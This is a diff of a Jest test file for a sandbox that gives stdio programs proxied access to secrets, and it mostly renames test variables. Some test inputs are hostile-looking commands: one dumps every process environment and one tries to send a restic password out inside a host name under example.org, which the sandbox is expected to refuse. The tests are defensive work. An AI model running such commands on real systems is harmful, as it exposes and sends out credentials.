@@ -8,7 +8,7 @@ import { afterAll, afterEach, beforeAll, describe, expect, it, jest } from '@jes
 import { StdioFrame, StdioRequest } from '@aish/contracts/stdio';
 import { createLogger, type RunningService } from '@aish/http';
 import { WebSocket } from 'ws';
-import { cleanUp, newGround, until, type Ground } from '../../testing/sandbox.fixture.js';
+import { cleanUp, newTestSettings, until, type TestSettings } from '../../testing/sandbox.fixture.js';
 import { startSandbox } from '../start-sandbox.js';
 
 jest.setTimeout(60_000);
@@ -18,18 +18,18 @@ const CLEAR = 'restic-password-in-clear';
 /** This program executes the commands that it receives, one line at a time. */
 const OBEYS = ['bash', '-c', 'while read -r line; do eval "$line" 2>&1; echo "<end>"; done'];
 
-let ground: Ground;
+let ground: TestSettings;
 let service: RunningService;
 let web: Server;
 let port: number;
 let closedToIt: Server;
-const heard: { readonly at: 'home' | 'elsewhere'; readonly authorization: string }[] = [];
+const requests: { readonly at: 'home' | 'elsewhere'; readonly authorization: string }[] = [];
 const open: WebSocket[] = [];
 
 async function listening(at: 'home' | 'elsewhere'): Promise<Server> {
   const server = createServer(({ headers }, response) => {
     const { authorization = '' } = headers;
-    heard.push({ at, authorization });
+    requests.push({ at, authorization });
     response.setHeader('connection', 'close').end(`you sent ${authorization}\n`);
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
@@ -38,7 +38,7 @@ async function listening(at: 'home' | 'elsewhere'): Promise<Server> {
 const portOf = (server: Server) => (server.address() as AddressInfo).port;
 
 beforeAll(async () => {
-  ground = await newGround();
+  ground = await newTestSettings();
   const logger = createLogger('warn', 'sandbox', { write: () => undefined });
   service = await startSandbox(ground.config, logger, { version: '0.0.0', handleSignals: false });
   web = await listening('home');
@@ -46,7 +46,7 @@ beforeAll(async () => {
   port = portOf(web);
 });
 afterEach(() => {
-  heard.length = 0;
+  requests.length = 0;
   for (const socket of open.splice(0)) socket.terminate();
 });
 afterAll(async () => {
@@ -101,9 +101,9 @@ async function program(over: Partial<StdioRequest> = {}) {
   const tell = async (line: string): Promise<string> => {
     const from = frames.length;
     socket.send(JSON.stringify({ type: 'line', text: line }));
-    const said = () => frames.slice(from).flatMap((frame) => (frame.type === 'line' ? [frame.text] : []));
-    await until(() => Promise.resolve(said().includes('<end>')), `an answer to ${line}`);
-    return said().slice(0, -1).join('\n');
+    const linesSince = () => frames.slice(from).flatMap((frame) => (frame.type === 'line' ? [frame.text] : []));
+    await until(() => Promise.resolve(linesSince().includes('<end>')), `an answer to ${line}`);
+    return linesSince().slice(0, -1).join('\n');
   };
   return { id: request.id, socket, tell, stderr, begin };
 }
@@ -114,7 +114,7 @@ describe('a stdio program with the access of a space', () => {
   it('a stdio program uses a secret without seeing it: its host gets the value, and an echo has the placeholder', async () => {
     const { tell } = await program();
     expect(await tell(`${CALL} http://127.0.0.1:${port}/`)).toBe('you sent Bearer aish-secret-0123456789abcdefghij');
-    expect(heard).toEqual([{ at: 'home', authorization: `Bearer ${VALUE}` }]);
+    expect(requests).toEqual([{ at: 'home', authorization: `Bearer ${VALUE}` }]);
     const everything = await tell('env; cat /proc/*/environ | tr "\\0" "\\n"; set; ls -R /run/aish /workspace');
     expect(everything).toContain('GREETING=hello');
     expect(everything).toContain('NODE_USE_ENV_PROXY=1');
@@ -128,8 +128,8 @@ describe('a stdio program with the access of a space', () => {
     const other = portOf(closedToIt);
     expect(await tell(`${CALL} http://127.0.0.1:${other}/`)).toMatch(/is refused: no rule allows it/);
     expect(await tell(`curl -sS -m 2 --noproxy '*' http://127.0.0.1:${other}/`)).toMatch(/Could not connect|refused/i);
-    expect(heard).toEqual([]);
-    await until(() => Promise.resolve(stderr().includes(`127.0.0.1:${other} is refused`)), 'it is told');
+    expect(requests).toEqual([]);
+    await until(() => Promise.resolve(stderr().includes(`127.0.0.1:${other} is refused`)), 'stderr reports it');
   });
 
   it('a stdio program gets an exposed secret if a person allowed it, and its output has the placeholder', async () => {
@@ -142,10 +142,10 @@ describe('a stdio program with the access of a space', () => {
 
   it('a host name that contains an exposed secret is not reported', async () => {
     const { tell, stderr } = await program();
-    const told = await tell('curl -sS --noproxy "" "http://$RESTIC_PASSWORD.example.org/"');
-    expect(told).toContain('is refused: its name holds a secret');
-    await until(() => Promise.resolve(stderr().includes('a-name-that-holds-a-secret')), 'it is told');
-    expect(told + stderr()).not.toContain(CLEAR);
+    const answer = await tell('curl -sS --noproxy "" "http://$RESTIC_PASSWORD.example.org/"');
+    expect(answer).toContain('is refused: its name holds a secret');
+    await until(() => Promise.resolve(stderr().includes('a-name-that-holds-a-secret')), 'stderr reports it');
+    expect(answer + stderr()).not.toContain(CLEAR);
   });
 
   it('a stdio program without a space has no network access', async () => {
@@ -153,7 +153,7 @@ describe('a stdio program with the access of a space', () => {
     expect(await tell(`env | grep -ci proxy; ls /run/aish; curl -sS -m 2 http://127.0.0.1:${port}/`)).toMatch(
       /^0\n.*No such file.*\n.*Could not connect/s,
     );
-    expect(heard).toEqual([]);
+    expect(requests).toEqual([]);
   });
 
   it('a stdio program whose space has a GPU does not start if the sandbox offers none', async () => {
